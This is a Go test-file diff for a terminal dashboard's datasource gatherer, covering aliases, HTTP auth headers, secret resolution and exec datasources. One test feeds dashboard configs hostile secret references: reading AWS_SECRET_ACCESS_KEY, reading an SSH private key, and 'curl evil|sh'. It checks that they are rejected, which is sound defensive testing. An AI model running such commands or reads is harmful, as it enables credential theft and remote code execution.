@@ -2,6 +2,9 @@ package datasource_test
 
 import (
 	"context"
+	"net/http"
+	"net/http/httptest"
+	"os"
 	"testing"
 	"time"
 
@@ -101,7 +104,7 @@ func TestGathererGatherSingle(t *testing.T) {
 				"ds1": "ds3",
 			},
 			exp: func(mgs []*mmetric.Gatherer) {
-				mgs[3].On("GatherSingle", mock.Anything, mock.Anything, mock.Anything).Once().Return([]model.MetricSeries{}, nil)
+				mgs[1].On("GatherSingle", mock.Anything, mock.Anything, mock.Anything).Once().Return([]model.MetricSeries{}, nil)
 			},
 		},
 		{
@@ -113,7 +116,7 @@ func TestGathererGatherSingle(t *testing.T) {
 			dashboardDatasources: datasources1,
 			userDatasources:      datasources3,
 			exp: func(mgs []*mmetric.Gatherer) {
-				mgs[3].On("GatherSingle", mock.Anything, mock.Anything, mock.Anything).Once().Return([]model.MetricSeries{}, nil)
+				mgs[1].On("GatherSingle", mock.Anything, mock.Anything, mock.Anything).Once().Return([]model.MetricSeries{}, nil)
 			},
 		},
 	}
@@ -134,7 +137,8 @@ func TestGathererGatherSingle(t *testing.T) {
 			test.exp(mgs)
 
 			// Create the datasource based gatherer.
-			// The creation funcs return the mocks in order.
+			// The creation funcs return the mocks in order, only the resolved
+			// datasources are created in the order of their IDs.
 			gCount := 0
 			g, err := datasource.NewGatherer(datasource.ConfigGatherer{
 				DashboardDatasources: test.dashboardDatasources,
@@ -171,3 +175,498 @@ func TestGathererGatherSingle(t *testing.T) {
 		})
 	}
 }
+
+func TestResolve(t *testing.T) {
+	dashboardDatasources := []model.Datasource{
+		model.Datasource{
+			ID:               "ds0",
+			DatasourceSource: model.DatasourceSource{Fake: &model.FakeDatasource{}},
+		},
+		model.Datasource{
+			ID:               "ds1",
+			DatasourceSource: model.DatasourceSource{Prometheus: &model.PrometheusDatasource{}},
+		},
+		model.Datasource{
+			ID:               "ds2",
+			DatasourceSource: model.DatasourceSource{Prometheus: &model.PrometheusDatasource{}},
+		},
+	}
+	userDatasources := []model.Datasource{
+		model.Datasource{
+			ID:               "ds1",
+			DatasourceSource: model.DatasourceSource{Prometheus: &model.PrometheusDatasource{}},
+		},
+		model.Datasource{
+			ID:               "uds0",
+			DatasourceSource: model.DatasourceSource{Graphite: &model.GraphiteDatasource{}},
+		},
+	}
+
+	tests := []struct {
+		name    string
+		aliases map[string]string
+		exp     []datasource.Resolution
+		expErr  bool
+	}{
+		{
+			name: "Without aliases the dashboard datasources should be resolved to the dashboard or the user overrides.",
+			exp: []datasource.Resolution{
+				{ID: "ds0", Origin: datasource.OriginDashboard},
+				{ID: "ds1", Origin: datasource.OriginUser},
+				{ID: "ds2", Origin: datasource.OriginDashboard},
+			},
+		},
+		{
+			name:    "Aliases should have priority and add new datasource IDs.",
+			aliases: map[string]string{"ds2": "uds0", "ds3": "ds1"},
+			exp: []datasource.Resolution{
+				{ID: "ds0", Origin: datasource.OriginDashboard},
+				{ID: "ds1", Origin: datasource.OriginUser},
+				{ID: "ds2", Origin: datasource.OriginAlias, UserID: "uds0"},
+				{ID: "ds3", Origin: datasource.OriginAlias, UserID: "ds1"},
+			},
+		},
+		{
+			name:    "Aliases to missing user datasources should fail.",
+			aliases: map[string]string{"ds2": "ds0"},
+			expErr:  true,
+		},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			assert := assert.New(t)
+
+			got, err := datasource.Resolve(datasource.ConfigGatherer{
+				DashboardDatasources: dashboardDatasources,
+				UserDatasources:      userDatasources,
+				Aliases:              test.aliases,
+			})
+			if test.expErr {
+				assert.Error(err)
+			} else if assert.NoError(err) {
+				assert.Equal(test.exp, got)
+			}
+		})
+	}
+}
+
+func TestGathererResolutions(t *testing.T) {
+	dashboardDatasources := []model.Datasource{
+		model.Datasource{
+			ID:               "ds0",
+			DatasourceSource: model.DatasourceSource{Fake: &model.FakeDatasource{}},
+		},
+	}
+	userDatasources := []model.Datasource{
+		model.Datasource{
+			ID:               "uds0",
+			DatasourceSource: model.DatasourceSource{Prometheus: &model.PrometheusDatasource{}},
+		},
+	}
+
+	tests := []struct {
+		name        string
+		resolutions []datasource.Resolution
+		expUser     bool
+		expErr      bool
+	}{
+		{
+			name:        "The received resolutions should be used instead of resolving the datasources.",
+			resolutions: []datasource.Resolution{{ID: "ds0", Origin: datasource.OriginAlias, UserID: "uds0"}},
+			expUser:     true,
+		},
+		{
+			name:        "Resolutions to missing datasources should fail.",
+			resolutions: []datasource.Resolution{{ID: "ds0", Origin: datasource.OriginUser}},
+			expErr:      true,
+		},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			assert := assert.New(t)
+			require := require.New(t)
+
+			mdg := &mmetric.Gatherer{}
+			mug := &mmetric.Gatherer{}
+			if test.expUser {
+				mug.On("GatherSingle", mock.Anything, mock.Anything, mock.Anything).Once().Return([]model.MetricSeries{}, nil)
+			}
+
+			g, err := datasource.NewGatherer(datasource.ConfigGatherer{
+				DashboardDatasources: dashboardDatasources,
+				UserDatasources:      userDatasources,
+				Resolutions:          test.resolutions,
+				CreateFakeFunc: func(_ model.FakeDatasource) (metric.Gatherer, error) {
+					return mdg, nil
+				},
+				CreatePrometheusFunc: func(_ model.PrometheusDatasource) (metric.Gatherer, error) {
+					return mug, nil
+				},
+			})
+			if test.expErr {
+				assert.Error(err)
+				return
+			}
+			require.NoError(err)
+
+			_, err = g.GatherSingle(context.TODO(), model.Query{DatasourceID: "ds0"}, time.Now())
+			assert.NoError(err)
+			mdg.AssertExpectations(t)
+			mug.AssertExpectations(t)
+		})
+	}
+}
+
+func TestGathererHTTPOptions(t *testing.T) {
+	httpOpts := model.HTTPOptions{
+		Headers: map[string]string{"X-Scope-OrgID": "tenant1"},
+		Timeout: "5s",
+	}
+	bearerOpts := httpOpts
+	bearerOpts.BearerToken = "my-token"
+	basicOpts := httpOpts
+	basicOpts.Username = "user"
+	basicOpts.Password = "pass"
+
+	tests := []struct {
+		name    string
+		ds      func(addr string) model.DatasourceSource
+		expAuth string
+	}{
+		{
+			name: "Prometheus datasource should use the bearer token and the custom headers.",
+			ds: func(addr string) model.DatasourceSource {
+				return model.DatasourceSource{Prometheus: &model.PrometheusDatasource{Address: addr, HTTPOptions: bearerOpts}}
+			},
+			expAuth: "Bearer my-token",
+		},
+		{
+			name: "Prometheus datasource should use the basic auth and the custom headers.",
+			ds: func(addr string) model.DatasourceSource {
+				return model.DatasourceSource{Prometheus: &model.PrometheusDatasource{Address: addr, HTTPOptions: basicOpts}}
+			},
+			expAuth: "Basic dXNlcjpwYXNz",
+		},
+		{
+			name: "Graphite datasource should use the bearer token and the custom headers.",
+			ds: func(addr string) model.DatasourceSource {
+				return model.DatasourceSource{Graphite: &model.GraphiteDatasource{Address: addr, HTTPOptions: bearerOpts}}
+			},
+			expAuth: "Bearer my-token",
+		},
+		{
+			name: "Graphite datasource should use the basic auth and the custom headers.",
+			ds: func(addr string) model.DatasourceSource {
+				return model.DatasourceSource{Graphite: &model.GraphiteDatasource{Address: addr, HTTPOptions: basicOpts}}
+			},
+			expAuth: "Basic dXNlcjpwYXNz",
+		},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			require := require.New(t)
+			assert := assert.New(t)
+
+			// Mock server response.
+			var gotHeaders http.Header
+			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				gotHeaders = r.Header
+				w.Header().Set("Content-Type", "application/json")
+				w.Write([]byte(`{"status":"success","data":{"resultType":"vector","result":[]}}`))
+			}))
+			defer srv.Close()
+
+			g, err := datasource.NewGatherer(datasource.ConfigGatherer{
+				DashboardDatasources: []model.Datasource{
+					{ID: "ds", DatasourceSource: test.ds(srv.URL)},
+				},
+			})
+			require.NoError(err)
+
+			// We only check the request, the response is not valid for all the datasources.
+			g.GatherSingle(context.TODO(), model.Query{DatasourceID: "ds", Expr: "up"}, time.Now())
+			if assert.NotNil(gotHeaders) {
+				assert.Equal(test.expAuth, gotHeaders.Get("Authorization"))
+				assert.Equal("tenant1", gotHeaders.Get("X-Scope-OrgID"))
+			}
+		})
+	}
+}
+
+func TestGathererSecrets(t *testing.T) {
+	os.Setenv("GRAFTERM_TEST_TOKEN", "my-token")
+	defer os.Unsetenv("GRAFTERM_TEST_TOKEN")
+
+	tests := []struct {
+		name   string
+		ds     model.DatasourceSource
+		exp    model.DatasourceSource
+		expErr bool
+	}{
+		{
+			name: "Prometheus credentials should be resolved.",
+			ds: model.DatasourceSource{Prometheus: &model.PrometheusDatasource{
+				Address: "http://127.0.0.1:9090",
+				HTTPOptions: model.HTTPOptions{
+					BearerToken: "env:GRAFTERM_TEST_TOKEN",
+					Headers:     map[string]string{"X-Api-Key": "exec:echo my-key", "X-Scope-OrgID": "tenant1"},
+				},
+			}},
+			exp: model.DatasourceSource{Prometheus: &model.PrometheusDatasource{
+				Address: "http://127.0.0.1:9090",
+				HTTPOptions: model.HTTPOptions{
+					BearerToken: "my-token",
+					Headers:     map[string]string{"X-Api-Key": "my-key", "X-Scope-OrgID": "tenant1"},
+				},
+			}},
+		},
+		{
+			name: "InfluxDB 2 token should be resolved.",
+			ds: model.DatasourceSource{InfluxDB2: &model.InfluxDB2Datasource{
+				Address: "http://127.0.0.1:8086",
+				Org:     "my-org",
+				Token:   "env:GRAFTERM_TEST_TOKEN",
+			}},
+			exp: model.DatasourceSource{InfluxDB2: &model.InfluxDB2Datasource{
+				Address: "http://127.0.0.1:8086",
+				Org:     "my-org",
+				Token:   "my-token",
+			}},
+		},
+		{
+			name: "Missing secrets should fail.",
+			ds: model.DatasourceSource{InfluxDB: &model.InfluxDBDatasource{
+				Address:     "http://127.0.0.1:8086",
+				HTTPOptions: model.HTTPOptions{Username: "user", Password: "env:GRAFTERM_TEST_MISSING"},
+			}},
+			expErr: true,
+		},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			assert := assert.New(t)
+
+			// Store the datasources received by the creators.
+			var got model.DatasourceSource
+			_, err := datasource.NewGatherer(datasource.ConfigGatherer{
+				UserDatasources: []model.Datasource{{ID: "ds", DatasourceSource: test.ds}},
+				Aliases:         map[string]string{"ds": "ds"},
+				CreatePrometheusFunc: func(ds model.PrometheusDatasource) (metric.Gatherer, error) {
+					got.Prometheus = &ds
+					return &mmetric.Gatherer{}, nil
+				},
+				CreateInfluxDBFunc: func(ds model.InfluxDBDatasource) (metric.Gatherer, error) {
+					got.InfluxDB = &ds
+					return &mmetric.Gatherer{}, nil
+				},
+				CreateInfluxDB2Func: func(ds model.InfluxDB2Datasource) (metric.Gatherer, error) {
+					got.InfluxDB2 = &ds
+					return &mmetric.Gatherer{}, nil
+				},
+			})
+
+			if test.expErr {
+				assert.Error(err)
+			} else if assert.NoError(err) {
+				assert.Equal(test.exp, got)
+				assert.NotEqual(test.exp, test.ds, "the received datasources shouldn't be modified")
+			}
+		})
+	}
+}
+
+func TestGathererSecretsOnDashboards(t *testing.T) {
+	tests := []struct {
+		name   string
+		ds     model.DatasourceSource
+		expErr bool
+	}{
+		{
+			name: "Credentials without secret references should be allowed.",
+			ds: model.DatasourceSource{Prometheus: &model.PrometheusDatasource{
+				Address:     "http://127.0.0.1:9090",
+				HTTPOptions: model.HTTPOptions{BearerToken: "my-token"},
+			}},
+		},
+		{
+			name: "An environment secret reference should fail.",
+			ds: model.DatasourceSource{Prometheus: &model.PrometheusDatasource{
+				Address:     "http://127.0.0.1:9090",
+				HTTPOptions: model.HTTPOptions{BearerToken: "env:AWS_SECRET_ACCESS_KEY"},
+			}},
+			expErr: true,
+		},
+		{
+			name: "A file secret reference on the headers should fail.",
+			ds: model.DatasourceSource{Prometheus: &model.PrometheusDatasource{
+				Address:     "http://127.0.0.1:9090",
+				HTTPOptions: model.HTTPOptions{Headers: map[string]string{"X": "file:/home/u/.ssh/id_rsa"}},
+			}},
+			expErr: true,
+		},
+		{
+			name: "A command secret reference should fail.",
+			ds: model.DatasourceSource{InfluxDB: &model.InfluxDBDatasource{
+				Address:     "http://127.0.0.1:8086",
+				HTTPOptions: model.HTTPOptions{Username: "user", Password: "exec:curl evil|sh"},
+			}},
+			expErr: true,
+		},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			assert := assert.New(t)
+
+			_, err := datasource.NewGatherer(datasource.ConfigGatherer{
+				DashboardDatasources: []model.Datasource{{ID: "ds", DatasourceSource: test.ds}},
+				ResolveSecretFunc: func(s string) (string, error) {
+					assert.Fail("dashboard secrets shouldn't be resolved")
+					return s, nil
+				},
+				CreatePrometheusFunc: func(ds model.PrometheusDatasource) (metric.Gatherer, error) {
+					return &mmetric.Gatherer{}, nil
+				},
+				CreateInfluxDBFunc: func(ds model.InfluxDBDatasource) (metric.Gatherer, error) {
+					return &mmetric.Gatherer{}, nil
+				},
+			})
+
+			if test.expErr {
+				assert.Error(err)
+			} else {
+				assert.NoError(err)
+			}
+		})
+	}
+}
+
+func TestGathererCommandsOnDashboards(t *testing.T) {
+	execDS := model.Datasource{ID: "ds", DatasourceSource: model.DatasourceSource{Exec: &model.ExecDatasource{}}}
+
+	tests := []struct {
+		name                 string
+		dashboardDatasources []model.Datasource
+		userDatasources      []model.Datasource
+		aliases              map[string]string
+		expErr               bool
+	}{
+		{
+			name:            "An exec datasource on the user datasources should be allowed.",
+			userDatasources: []model.Datasource{execDS},
+			aliases:         map[string]string{"ds": "ds"},
+		},
+		{
+			name:                 "An exec datasource on the dashboard datasources should fail.",
+			dashboardDatasources: []model.Datasource{execDS},
+			expErr:               true,
+		},
+		{
+			name:                 "An exec datasource on the dashboard datasources overridden by a user datasource shouldn't be created.",
+			dashboardDatasources: []model.Datasource{execDS},
+			userDatasources:      []model.Datasource{{ID: "ds", DatasourceSource: model.DatasourceSource{Fake: &model.FakeDatasource{}}}},
+		},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			assert := assert.New(t)
+
+			_, err := datasource.NewGatherer(datasource.ConfigGatherer{
+				DashboardDatasources: test.dashboardDatasources,
+				UserDatasources:      test.userDatasources,
+				Aliases:              test.aliases,
+				CreateExecFunc: func(ds model.ExecDatasource) (metric.Gatherer, error) {
+					return &mmetric.Gatherer{}, nil
+				},
+			})
+
+			if test.expErr {
+				assert.Error(err)
+			} else {
+				assert.NoError(err)
+			}
+		})
+	}
+}
+
+func TestGathererSharedScrapers(t *testing.T) {
+	assert := assert.New(t)
+	require := require.New(t)
+
+	scrapes := make(chan struct{}, 10)
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Write([]byte("goroutines 12\n"))
+		scrapes <- struct{}{}
+	}))
+	defer srv.Close()
+
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	dss := []model.Datasource{
+		{ID: "ds", DatasourceSource: model.DatasourceSource{Scrape: &model.ScrapeDatasource{Address: srv.URL, Interval: "1m"}}},
+	}
+
+	// The gatherers of the same context (e.g multiple dashboards) should
+	// share the scraper of the same datasource.
+	for i := 0; i < 3; i++ {
+		_, err := datasource.NewGatherer(datasource.ConfigGatherer{
+			Context:              ctx,
+			DashboardDatasources: dss,
+		})
+		require.NoError(err)
+	}
+
+	<-scrapes
+	time.Sleep(50 * time.Millisecond)
+	assert.Len(scrapes, 0)
+}
+
+func TestGathererInfluxDBUnsupportedHTTPOptions(t *testing.T) {
+	tests := []struct {
+		name   string
+		opts   model.HTTPOptions
+		expErr bool
+	}{
+		{
+			name: "InfluxDB datasource with basic auth should be created.",
+			opts: model.HTTPOptions{Username: "user", Password: "pass"},
+		},
+		{
+			name:   "InfluxDB datasource with bearer token should fail.",
+			opts:   model.HTTPOptions{BearerToken: "my-token"},
+			expErr: true,
+		},
+		{
+			name:   "InfluxDB datasource with custom headers should fail.",
+			opts:   model.HTTPOptions{Headers: map[string]string{"X-Scope-OrgID": "tenant1"}},
+			expErr: true,
+		},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			assert := assert.New(t)
+
+			_, err := datasource.NewGatherer(datasource.ConfigGatherer{
+				DashboardDatasources: []model.Datasource{
+					{ID: "ds", DatasourceSource: model.DatasourceSource{InfluxDB: &model.InfluxDBDatasource{
+						Address:     "http://127.0.0.1:8086",
+						Database:    "db",
+						HTTPOptions: test.opts,
+					}}},
+				},
+			})
+
+			if test.expErr {
+				assert.Error(err)
+			} else {
+				assert.NoError(err)
+			}
+		})
+	}
+}